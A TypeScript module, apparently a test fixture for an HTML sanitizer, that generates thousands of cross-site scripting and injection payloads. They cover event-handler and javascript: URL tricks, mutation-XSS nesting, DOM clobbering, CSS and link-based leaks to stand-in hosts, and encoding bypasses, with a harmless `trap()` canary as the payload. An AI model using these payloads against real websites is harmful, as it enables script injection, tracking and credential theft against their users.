/**
 * Attacks on a page that shows what others wrote, made of what is known to have worked somewhere. A script that runs calls `trap`.
 * `LEAK` and `PICTURE` stand for addresses; what asks for the first has told somebody that the page was read.
 */
export function attacks(): string[] {
  const all = [handlers, addresses, mutations, clobbering, presentation, leaks, encodings, texts].flatMap((make) => [
    ...make(),
  ]);
  return [...new Set(all)];
}

const words = (text: string) => text.trim().split(/\s+/);

const eventNames = words(`
  abort afterprint animationcancel animationend animationiteration animationstart auxclick beforecopy beforeinput beforematch
  beforeprint beforetoggle beforeunload begin blur bounce cancel canplay canplaythrough change click close command
  contentvisibilityautostatechange contextmenu copy cuechange cut dblclick drag dragend dragenter drop durationchange emptied
  end ended error finish focus focusin focusout formdata fullscreenchange hashchange input invalid keydown keypress keyup load
  loadeddata loadedmetadata loadend loadstart message mousedown mouseenter mouseover mousewheel pagehide pagereveal pageshow
  paste play playing pointerenter pointerover popstate progress readystatechange repeat reset resize scroll scrollend
  scrollsnapchange search securitypolicyviolation seeked select selectionchange selectstart show slotchange stalled start submit
  suspend timeupdate toggle touchstart transitionend transitionrun transitionstart unhandledrejection unload volumechange waiting
  webkitanimationend webkitanimationstart webkittransitionend wheel`);

const handlerHosts = words(`
  a abbr address article animate area aside audio b base bdo body button br canvas caption center col datalist details dialog
  dir div dl embed fieldset figure font footer form frame frameset h1 head header hr html iframe image img input isindex keygen
  label legend li link main map market-article-card marquee math menu meta meter mi nav nobr noscript object ol option p picture
  plaintext portal pre progress q ruby s script section select set slot small source span style summary sup svg table tbody td
  template textarea tfoot th time title tr track tt u ul use var video x-y xmp`);

/** Ways to write an attribute. The last ones are what a lenient reader takes for one. */
const quotings: readonly ((name: string, value: string) => string)[] = [
  (name, value) => ` ${name}="${value}"`,
  (name, value) => ` ${name}='${value}'`,
  (name, value) => ` ${name}=${value}`,
  (name, value) => `/${name}=${value}`,
  (name, value) => `\n${name}\n=\n"${value}"`,
  (name, value) => `\t${name.toUpperCase()}\t=${value}`,
  (name, value) => `\f${name}="${value}"`,
  (name, value) => ` x="y"${name}="${value}"`,
  (name, value) => ` title="a>b" ${name}="${value}"`,
  (name, value) => ` title='"' ${name}='${value}'`,
  (name, value) => ` "'x ${name}="${value}"`,
  (name, value) => ` ${name}=\`${value}\``,
  (name, value) => ` ${name}="${value}" ${name}="x"`,
  (name, value) => ` =${name}="${value}"`,
  (name, value) => ` <${name}="${value}"`,
  (name, value) => ` ${name}\u0000="${value}"`,
];

/** What makes an element do something without the reader, so that its handler is called. */
const urges = [
  '',
  ' src=x',
  ' autofocus tabindex=1',
  ' style="animation:spin 1s"',
  ' open',
  ' src=data:, href=x',
  ' contenteditable',
];

const calls = [
  'trap()',
  'trap&lpar;&rpar;',
  '&#116;&#114;&#97;&#112;&#40;&#41;',
  '&#x74;&#x72;&#x61;&#x70;&#x28;&#x29;',
  '\\u0074rap()',
  'window[`trap`]()',
  'top.trap?.();trap()',
  'eval(atob(`dHJhcCgp`))',
];

function* handlers() {
  let turn = 0;
  for (const host of handlerHosts) {
    for (const event of pick(eventNames, 24, turn)) {
      const quoting = at(quotings, turn);
      yield `<${host}${at(urges, turn >> 1)}${quoting(`on${event}`, at(calls, turn >> 2))}>x`;
      turn++;
    }
  }
  for (const event of eventNames)
    for (const host of ['img src=x', 'svg', 'a tabindex=1', 'x-y']) yield `<${host} on${event}=trap()>`;
  for (const quoting of quotings) for (const call of calls) yield `<img src=x${quoting('onerror', call)}>`;
}

const schemes = [
  'javascript:trap()',
  'JaVaScRiPt:trap()',
  ' \n javascript:trap()',
  'java\tscript:trap()',
  'java\nscript:trap()',
  'java&#10;script&colon;trap()',
  'java&Tab;script&NewLine;:trap()',
  '&#106avascript:trap()',
  '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;trap()',
  '&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058trap()',
  '\u0001javascript:trap()',
  '\u0000javascript:trap()',
  'java\u0000script:trap()',
  '\u00a0javascript:trap()',
  '\ufeffjavascript:trap()',
  'java\u00adscript:trap()',
  'javascript\uff1atrap()',
  'javascript://news.example/%0atrap()',
  'javascript:/*--></title></style></textarea></script></xmp><svg/onload=trap()>*/trap()',
  'javascript:%74rap()',
  'javascript%3Atrap()',
  'vbscript:trap()',
  'livescript:trap()',
  'feed:javascript:trap()',
  'view-source:javascript:trap()',
  'jar:javascript:trap()',
  'data:text/html,<script>parent.trap()</script>',
  'data:text/html;base64,PHNjcmlwdD5wYXJlbnQudHJhcCgpPC9zY3JpcHQ+',
  'data:text/javascript,trap()',
  'data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22trap()%22/>',
  'data:application/xhtml+xml,<x:script xmlns:x=%22http://www.w3.org/1999/xhtml%22>trap()</x:script>',
  'blob:https://news.example/x',
  'filesystem:https://news.example/x',
  'file:///etc/passwd',
  'about:srcdoc',
  'LEAK',
  'LEAK 2x, LEAK 1x',
  '\\\\canary.example\\x',
  '//canary.example/x',
  'https:canary.example',
  'http://canary.example/x',
  'https://news.example@canary.example/',
  'https://canary.example\\@news.example/',
  'https://news.example.canary.example/',
  'https://аpple.example/',
  'https://xn--/',
  'https://[::1',
  'https://canary.example:99999/',
  '\ud800https://canary.example/',
  'intent://canary.example/#Intent;scheme=https;end',
  'ws://canary.example/',
];

/** Attributes that hold an address, with their elements. */
const addressed = words(`
  a:href a:ping a:xlink:href a:attributionsrc area:href audio:src applet:codebase applet:code base:href bgsound:src blockquote:cite
  body:background button:formaction command:icon del:cite div:background embed:src embed:code form:action frame:src head:profile
  html:manifest iframe:src iframe:srcdoc iframe:longdesc img:src img:srcset img:lowsrc img:dynsrc img:longdesc img:usemap
  img:attributionsrc image:href input:src input:formaction input:background ins:cite isindex:action link:href link:imagesrcset
  math:href mi:xlink:href object:data object:classid object:codebase object:archive object:usemap param:value portal:src q:cite
  script:src script:attributionsrc source:src source:srcset svg:href table:background tbody:background td:background th:background
  track:src video:src video:poster xml:src use:href use:xlink:href animate:to animate:values animate:from set:to feimage:href
  feimage:xlink:href image:xlink:href lineargradient:href mpath:href textpath:href script:href p:href p:src span:src x-y:src
  market-article-card:src ticker-feed:src`);

function* addresses() {
  for (const [turn, place] of addressed.entries()) {
    const [host = '', ...name] = place.split(':');
    const attribute = name.join(':');
    for (const [index, scheme] of schemes.entries()) {
      // A picture is the one thing that a text may ask for.
      const isPicture = /^(img|image)$/.test(host) && attribute === 'src';
      const value = isPicture ? scheme.replaceAll('LEAK', 'PICTURE') : scheme;
      const tag = `<${host}${at(quotings, (index % 3 ? 0 : turn) % 11)(attribute, value.replaceAll('"', '%22'))}`;
      const inside =
        /^(animate|set|use|image|feimage|mpath|textpath|lineargradient)$/.test(host) && attribute !== 'src';
      const extra = /^(animate|set)$/.test(host) ? ' attributeName=href' : host === 'link' ? ' rel=stylesheet' : '';
      yield inside ? `<svg><a>${tag}${extra}><text y=9>x</text></a></svg>` : `${tag}${extra}>x`;
    }
  }
}

const outers = [
  '<svg>',
  '<svg><desc>',
  '<svg><title>',
  '<svg><foreignObject>',
  '<svg></p>',
  '<svg><style><![CDATA[</style>',
  '<math>',
  '<math><mi>',
  '<math><mtext>',
  '<math><mtext><table><mglyph>',
  '<math><mtext><form><mglyph>',
  '<math><annotation-xml encoding="text/html">',
  '<math><annotation-xml encoding=application/xhtml+xml><svg>',
  '<form><math><mtext></form><form><mglyph>',
  '<table>',
  '<table><caption>',
  '<table><colgroup>',
  '<select>',
  '<select><option>',
  '<select><template>',
  '<template>',
  '<template shadowrootmode=open>',
  '<noscript>',
  '<a>',
  '<a><table><a>',
  '<p><b><i>',
  '<button><p>',
  '<object>',
  '<frameset>',
  '<ruby><rt>',
  '<div>'.repeat(200),
  '<svg>'.repeat(200),
];

const rawNames = words('style script title textarea noscript xmp plaintext iframe noembed noframes template select');

function* mutations() {
  const image = '<img src=x onerror=trap()>';
  const escaped = '&lt;img src=x onerror=trap()&gt;';
  const shapes: readonly ((raw: string) => string)[] = [
    (raw) => `<${raw}><!--</${raw}><img title="--&gt;${escaped}">`,
    (raw) => `<${raw}><a title="</${raw}>${image}">`,
    (raw) => `<${raw}><!--</${raw}><a title="-->${image}">`,
    (raw) => `<a title="<${raw}>${image}</${raw}>">x</a><${raw}></a>${image}`,
    (raw) => `<${raw}>${escaped}</${raw}>`,
    (raw) => `<${raw}/>${image}`,
    (raw) => `</${raw}>${image}`,
    (raw) => `<${raw}><![CDATA[</${raw}>${image}]]>`,
    (raw) => `<p id="</${raw}>${image}"><${raw}>`,
  ];
  for (const outer of outers) for (const raw of rawNames) for (const shape of shapes) yield outer + shape(raw);
  for (const outer of outers) for (const inner of outers) yield `${outer}${inner}<p>x${image}<script>trap()</script>`;
  for (const comment of [
    '<!-->',
    '<!--->',
    '<!--x--!>',
    '<!--><!--',
    '<!-- --!-->',
    '<!x>',
    '<?x>',
    '</ x>',
    '<!-- <!-- -->',
    '<![CDATA[x]]>',
  ]) {
    for (const raw of rawNames) yield `${comment}${image}<${raw}>${comment}</${raw}>${image}-->`;
  }
}

const clobbered = words(`
  body head cookie forms images links scripts title location defaultView documentElement implementation currentScript
  adoptedStyleSheets createElement getElementById querySelector attributes childNodes children parentNode nextSibling firstChild
  nodeName localName innerHTML textContent append remove replaceWith setHTML matches name href src submit action elements
  testServers customElements litElementVersions market news host stage __proto__ constructor toString hasOwnProperty`);

function* clobbering() {
  for (const name of clobbered) {
    yield `<a id=${name} href="https://canary.example/">x</a><a id=${name} name=x>y</a>`;
    yield `<form id=${name}><input name=${name}><input name=attributes><button name=childNodes>x</form>`;
    yield `<img name=${name} src=x><img name=${name} src=x><iframe name=${name} srcdoc="<p>x">`;
    yield `<object id=${name}><embed name=${name}></object><p id=${name} name=${name}>x</p>`;
  }
}

const presentations = [
  'class="article visually-hidden wide number prose placeholder host"',
  'style="position:fixed;inset:0;z-index:99999;background:url(LEAK)"',
  'slot=media',
  'slot=gate',
  'slot=footer',
  'part=headline',
  'exportparts="headline"',
  'is=x-y',
  'popover=manual',
  'popovertarget=host popovertargetaction=show',
  'commandfor=host command=show-popover',
  'dialog open',
  'autofocus tabindex=1',
  'accesskey=a',
  'contenteditable=true',
  'draggable=true ondragstart=trap()',
  'hidden=until-found',
  'inert',
  'data-tone=bullish',
  'aria-label="x" aria-hidden=true role=alert aria-live=assertive',
  'role=dialog aria-modal=true',
  'itemscope itemtype=https://canary.example/',
  'form=host',
  'for=host',
  'usemap=#x',
  'width=99999 height=99999',
  'width=-1 height=1e9',
  'colspan=1000000 rowspan=1000000',
  'dir=rtl lang=ar',
  'bgcolor=red color=red size=7 face=x align=right valign=top hspace=999 vspace=999 border=999',
  'nonce=x integrity=x crossorigin=use-credentials referrerpolicy=unsafe-url',
  'fetchpriority=high loading=eager decoding=sync',
  'xmlns=http://www.w3.org/1999/xhtml xml:base=https://canary.example/',
  'elementtiming=x virtualkeyboardpolicy=manual writingsuggestions=true enterkeyhint=go',
  'anchor=host interestfor=host',
  'download=x target=_top rel=opener',
];

const presented = words('p div span a img td table li figure h1 time button input dialog section details ul x-y');

function* presentation() {
  for (const host of presented) for (const attributes of presentations) yield `<${host} href=/x src=/x ${attributes}>x`;
}

function* leaks() {
  const values = [
    'url(LEAK)',
    'url("LEAK")',
    "url('LEAK')",
    'u\\72l(LEAK)',
    'URL( LEAK )',
    'image-set("LEAK" 1x)',
    '-webkit-image-set(url(LEAK) 1x)',
    'cross-fade(url(LEAK),url(LEAK))',
    'image(LEAK)',
    'src("LEAK")',
    'var(--x,url(LEAK))',
    'expression(trap())',
  ];
  const properties = words(
    'background background-image list-style-image border-image-source content cursor mask-image -webkit-mask filter clip-path ' +
      'shape-outside offset-path -moz-binding behavior fill marker-start --x',
  );
  for (const property of properties) {
    for (const value of values) {
      yield `<p style="${property}:${value.replaceAll('"', '&quot;')}">x`;
      yield `<style>*{${property}:${value}}</style><p>x`;
    }
  }
  for (const wrap of ['', '<svg>', '<math><mtext>', '<table>', '<noscript>', '<template>', '<!--><']) {
    for (const rule of [
      '@import "LEAK";',
      '@import url(LEAK);',
      '@\\69mport url(LEAK);',
      '@font-face{font-family:x;src:url(LEAK)}*{font-family:x}',
      '@namespace url(LEAK);',
      ':root,:host,*{display:none!important;background:red}',
      '@property --x{syntax:"*";inherits:true}',
      '@view-transition{navigation:auto}',
      'h1[id^=h]{background:url(LEAK)}',
      '@media all{body{background:url(LEAK)}}',
    ]) {
      yield `${wrap}<style>${rule}</style><p>x`;
      yield `${wrap}<link rel=stylesheet href="data:text/css,${encodeURIComponent(rule)}"><p>x`;
    }
  }
  for (const rel of words(
    'stylesheet prefetch preload modulepreload preconnect dns-prefetch prerender icon manifest import alternate next canonical ' +
      'apple-touch-icon mask-icon pingback search expect',
  )) {
    for (const as of [
      '',
      ' as=script',
      ' as=image imagesrcset="LEAK 1x"',
      ' as=style media=all',
      ' as=fetch crossorigin',
      ' as=font',
    ]) {
      yield `<link rel="${rel}" href="LEAK"${as}><p>x`;
    }
  }
  for (const name of words(
    'refresh Refresh set-cookie Content-Security-Policy X-UA-Compatible origin-trial accept-ch delegate-ch',
  )) {
    for (const content of [
      '0;url=LEAK',
      '0;url=javascript:trap()',
      "0;'LEAK'",
      '1',
      'x=1',
      "default-src 'none'",
      'IE=7',
    ]) {
      yield `<meta http-equiv="${name}" content="${content}"><p>x`;
    }
  }
  for (const name of words('referrer viewport theme-color color-scheme monetization'))
    yield `<meta name=${name} content="unsafe-url, width=1, LEAK">`;
  for (const type of [
    '',
    'module',
    'importmap',
    'speculationrules',
    'text/template',
    'text/javascript',
    'application/ld+json',
  ]) {
    for (const body of [
      'trap()',
      '{"imports":{"lit":"LEAK"}}',
      '{"prefetch":[{"source":"list","urls":["LEAK"]}]}',
      'import("LEAK")',
    ]) {
      yield `<script type="${type}">${body}</script>`;
      yield `<svg><script type="${type}">${body}</script></svg>`;
      yield `<script type="${type}" src="LEAK" async defer>${body}</script>`;
    }
  }
  for (const field of [
    'text',
    'password',
    'image',
    'file',
    'hidden',
    'submit',
    'color',
    'email',
    'search',
    'reset',
    'range',
  ]) {
    yield `<form action="LEAK" method=post target=_top><input type=${field} src="LEAK" name=password autocomplete=on autofocus><button>x</form>`;
    yield `<input type=${field} src="LEAK" formaction="LEAK" form=host value=x>`;
  }
  for (const media of [
    '<video autoplay muted src="LEAK" poster="LEAK"><source src="LEAK"><track default src="LEAK"></video>',
    '<audio autoplay src="LEAK"></audio>',
    '<picture><source srcset="LEAK"><img srcset="LEAK"></picture>',
    '<img srcset="LEAK 1x" sizes=1px>',
    '<img alt="x" src="http://canary.example/p.gif" width=1 height=1>',
    '<img src="https://canary.example/p.gif" width=1 height=1>',
    '<img src="https://canary.example/p.gif" height=0>',
    '<iframe srcdoc="<script>parent.trap()</script><img src=LEAK>"></iframe>',
    '<iframe src="LEAK" credentialless loading=eager></iframe>',
    '<fencedframe></fencedframe><portal src="LEAK"></portal>',
    '<object data="LEAK" type=image/svg+xml></object>',
    '<embed src="LEAK" type=text/html>',
    '<applet code=x codebase="LEAK"></applet>',
    '<frameset><frame src="LEAK"></frameset>',
    '<svg><image href="LEAK"/><use href="LEAK#x"/><feImage href="LEAK"/></svg>',
    '<svg><rect fill="url(LEAK#x)" filter="url(LEAK#y)"/></svg>',
    '<svg><a><animate attributeName=href values=javascript:trap() /><text>x</text></a></svg>',
    '<svg><set attributeName=onmouseover to=trap() /></svg>',
    '<math href=javascript:trap()>x</math>',
    '<xml src="LEAK"></xml><bgsound src="LEAK"><layer src="LEAK"></layer>',
    '<body background="LEAK" onload=trap()><html manifest="LEAK">',
    '<base href="LEAK" target=_top><a href=x>x</a><img src=x>',
    '<a href=https://canary.example/ ping="LEAK" attributionsrc="LEAK">x</a>',
    '<template shadowrootmode=open><style>*{background:url(LEAK)}</style><script>trap()</script></template>',
    '<div><template shadowrootmode=closed><img src=x onerror=trap()></template></div>',
    '<dialog open>x</dialog><marquee onstart=trap()>x</marquee><blink>x</blink><keygen autofocus onfocus=trap()>',
    '<market-news src="LEAK"><market-article-card src="LEAK"></market-article-card></market-news>',
    '<signup-gate src="LEAK"></signup-gate><article-share url="LEAK"></article-share><ticker-feed src="LEAK"></ticker-feed>',
  ]) {
    yield media;
    yield `<p>x</p>${media}`;
    yield `<section><font>${media}</font></section>`;
    yield `<table><tr><td>${media}`;
  }
}

/** The same few attacks, written in ways that a check for the plain ones overlooks. */
function* encodings() {
  const plain = [
    '<script>trap()</script>',
    '<img src=x onerror=trap()>',
    '<svg onload=trap()>',
    '<a href="javascript:trap()">x</a>',
  ];
  const ways: readonly ((markup: string) => string)[] = [
    (markup) => markup.toUpperCase().replaceAll('TRAP', 'trap'),
    (markup) => markup.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
    (markup) => markup.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
    (markup) => [...markup].map((letter) => `&#${letter.codePointAt(0)};`).join(''),
    (markup) => [...markup].map((letter) => `&#x${letter.codePointAt(0)!.toString(16)}`).join(''),
    (markup) => encodeURIComponent(markup),
    (markup) => encodeURIComponent(encodeURIComponent(markup)),
    (markup) => markup.replaceAll('<', '\\u003c').replaceAll('>', '\\x3e'),
    (markup) => markup.replaceAll('<', '<\u0000'),
    (markup) => markup.replace('<', '<\u0000').replaceAll('r', 'r\u0000'),
    (markup) => markup.replaceAll('<', '<<'),
    (markup) => markup.replaceAll('>', ''),
    (markup) => markup.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
    (markup) => markup.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
    (markup) => markup.replaceAll('<', '\u00bc').replaceAll('>', '\u00be'),
    (markup) => markup.replaceAll('<', '%c0%bc'),
    (markup) => markup.replaceAll(' ', '/'),
    (markup) => markup.replaceAll(' ', '\f'),
    (markup) => markup.replaceAll(' ', '\u3000'),
    (markup) => `<${markup.slice(1, 2)}\u200b${markup.slice(2)}`,
    (markup) => `"'>${markup}`,
    (markup) => `'">--></style></title></textarea></script></noscript></xmp></template>${markup}`,
    (markup) => `\`-->{{constructor.constructor('trap()')()}}\${trap()}<%= trap() %>${markup}`,
    (markup) => `<scr<script>ipt>trap()</scr</script>ipt>${markup}`,
    (markup) => `<![CDATA[${markup}]]>`,
    (markup) => `<!--[if gte IE 4]>${markup}<![endif]-->`,
    (markup) => `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y "${markup}">]>&y;${markup}`,
    (markup) => `\ud83d${markup}\ude00`,
    (markup) => `\ufeff\u202e${markup}`,
    (markup) => `<lit-part>?lit$1$</lit-part><!--?lit$1$-->${markup}`,
  ];
  for (const markup of plain)
    for (const way of ways)
      for (const [open, end] of [
        ['', ''],
        ['<p title="', '">x</p>'],
        ['<b>', '</b>'],
      ])
        yield open + way(markup) + end;
}

function* texts() {
  const tricks: Record<string, string> = {
    override: '\u202eevil\u202c',
    'open override': '\u202e',
    'open isolate': '\u2067\u2066\u2068',
    'open embeddings': '\u202a\u202b\u202d'.repeat(70),
    'embedding as an entity': '&#x202e;&#8238;&#x2067;',
    marks: '\u200e\u200f\u061c',
    'nothing to see': '\u200b\u200c\u200d\u2060\ufeff\u00ad\u180e\u3164',
    zalgo: `Z${'\u0301\u0489\u035b\u0334'.repeat(200)}`,
    'Tibetan storm': `\u0f40${'\u0f71\u0f74\u0fb2'.repeat(100)}`,
    'one word': 'x'.repeat(10_000),
    'zero and controls': '\u0000\u0001\u0007\u0008\u000b\u001b[31m\u007f\u0085\u009b',
    'lone surrogates': '\ud800x\udc00\udbff',
    'letters of another script': 'Т\u0405LА аpple.com',
    'tag letters': '\u{e0001}\u{e0054}\u{e0053}\u{e007f}',
    'entity storm': '&amp;&lt;&#0;&#x110000;&#xd800;&nosuch;&NotEqualTilde;&'.repeat(100),
    'line ends': 'a\r\nb\u2028c\u2029d',
    noncharacters: '\ufffe\uffff\u{1ffff}',
    arabic: '\ufdfd'.repeat(50),
    emoji: '👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿'.repeat(20),
    percent: '%00%0d%0aSet-Cookie:x=1%20%u0041',
    templates: '${trap()}{{trap()}}<%trap()%>#{trap()}[[trap()]]',
    numbers: '-0 NaN Infinity 1e999 0x7f',
  };
  for (const trick of Object.values(tricks)) {
    yield trick;
    yield `<p>${trick}</p>`;
    yield `<p title="${trick}" lang="${trick}" dir="${trick}">x`;
    yield `<a href="https://canary.example/${trick}">bank.example ${trick}</a>`;
    yield `<img src="https://canary.example/${trick}" alt="${trick}">`;
    yield `<time datetime="${trick}">${trick}</time>`;
    yield `<pre>${trick}</pre><table><td>${trick}`;
  }
}

function at<T>(items: readonly T[], index: number): T {
  return items[index % items.length]!;
}

/** Some of the items, others at each turn, and all of them in time. */
function pick<T>(items: readonly T[], count: number, turn: number): T[] {
  return Array.from({ length: count }, (_, index) => at(items, turn + index));
}
